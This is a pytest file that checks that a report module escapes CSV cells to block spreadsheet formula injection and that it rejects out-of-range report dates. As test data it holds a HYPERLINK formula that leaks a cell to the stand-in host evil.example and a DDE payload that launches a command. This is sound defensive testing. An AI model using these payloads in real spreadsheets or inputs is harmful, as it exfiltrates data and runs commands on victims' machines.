"""Report rendering that reaches a spreadsheet, and the days a daily report can be made for."""

import csv
import io
from datetime import UTC, date, datetime

import pytest

from projections.reports import Report, ReportError, Section, report_day, spreadsheet_safe

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text",
    [ATTACK, "+1 212 555 0147", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", " =1+1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    """Cells starting with = + - @ tab or CR (OWASP CSV injection) are shown, not run."""
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "lead.anna", "212 555 0147", "a=b", "INC-1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    """Nothing else changes."""
    assert spreadsheet_safe(text) == text


def test_every_csv_cell_from_a_caller_is_neutralised_but_numbers_stay_numbers() -> None:
    """A caller's formula reaches the sheet as text in any section; our own numbers stay as is."""
    report = Report(title="t")
    report.sections = [
        Section(
            "Callers to call back",
            ["caller", "first_call", "calls", "hours_open", "call_ids"],
            [
                {
                    "caller": ATTACK,
                    "first_call": datetime(2026, 1, 15, 8, 0, tzinfo=UTC),
                    "calls": -1,
                    "hours_open": -0.5,
                    "call_ids": ["=cmd|' /C calc'!A0", "c2"],
                }
            ],
        ),
        Section("Open incidents", ["cause"], [{"cause": "@evil"}]),
    ]
    rows = cells(report.to_csv())
    assert rows[2] == [
        "'" + ATTACK,
        "2026-01-15 08:00:00",
        "-1",
        "-0.50",
        "'=cmd|' /C calc'!A0, c2",
    ]
    assert rows[6] == ["'@evil"]


def test_a_daily_report_can_be_asked_from_1970_to_tomorrow() -> None:
    """Days outside that range are refused with the range, not an overflow."""
    today = date(2026, 1, 15)
    assert report_day(date(1970, 1, 1), today) == date(1970, 1, 1)
    assert report_day(date(2026, 1, 16), today) == date(2026, 1, 16)
    for day in (date(9999, 12, 31), date(2026, 1, 17), date(1969, 12, 31), date(1, 1, 1)):
        with pytest.raises(ReportError, match="between 1970-01-01 and 2026-01-16"):
            report_day(day, today)
